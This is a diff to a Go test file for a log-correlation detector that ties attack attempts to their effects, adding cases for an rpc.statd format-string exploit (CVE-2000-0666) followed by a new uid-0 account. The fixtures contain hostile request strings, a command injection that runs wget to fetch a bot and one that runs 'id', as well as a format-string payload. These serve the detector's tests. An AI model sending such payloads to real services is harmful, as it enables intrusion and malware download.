@@ -30,6 +30,17 @@ func leftAt(path, account, when string, l detect.Level) detect.Finding {
 	return detect.Finding{Detection: "D42", What: detect.OddFile, Level: l, Rung: evidence.Effect, Path: path, Account: account, First: at(when), Last: at(when), Title: path + " is a program", For: quote(path)}
 }
 
+// faultAt makes the use of a fault in a daemon, secondRootAt an account that is root under another name.
+func faultAt(source, when string) detect.Finding {
+	f := triedAt(false, source, when, "gethostbyname error for %8x%hn")
+	f.Detection, f.What, f.Service, f.Mechanism, f.Level = "D30", detect.Exploit, "rpc.statd", "the format string of rpc.statd (CVE-2000-0666)", detect.High
+	return f
+}
+
+func secondRootAt(when string) detect.Finding {
+	return detect.Finding{Detection: "D45", What: detect.AccountMade, Level: detect.High, Rung: evidence.Effect, Account: "cgi", First: at(when), Last: at(when), Title: "account cgi was made with uid 0", For: quote("/var/log/secure")}
+}
+
 // TestAttempts: what follows an attempt closely is its effect; what is far from it, of somebody else, or answered "not found" is not.
 func TestAttempts(t *testing.T) {
 	for _, tc := range []struct {
@@ -44,6 +55,9 @@ func TestAttempts(t *testing.T) {
 		{"before it", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;wget%20203.0.113.6%2Fbot"), leftAt("/tmp/bot", "www-data", "02:59:00", detect.High)}},
 		{"of somebody who is no service", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "bob", "03:00:09", detect.High)}},
 		{"what was asked for was not there", "", "", "", []detect.Finding{triedAt(true, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "03:00:09", detect.High)}},
+		{"a second root, minutes behind a service's fault", "daemon-exploit", "203.0.113.6", Likely, []detect.Finding{faultAt("203.0.113.6", "03:00:00"), secondRootAt("03:04:00")}},
+		{"a second root, an hour later", "", "", "", []detect.Finding{faultAt("203.0.113.6", "03:00:00"), secondRootAt("04:04:00")}},
+		{"a second root, behind a request to the site", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), secondRootAt("03:00:20")}},
 		{"the one of two that names it", "web-exploit", "203.0.113.6", Confirmed, []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;wget%20203.0.113.6%2Fbot", "203.0.113.9", "03:00:02", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "03:00:04", detect.High)}},
 	} {
 		s := Build(t.Context(), tc.findings, full())
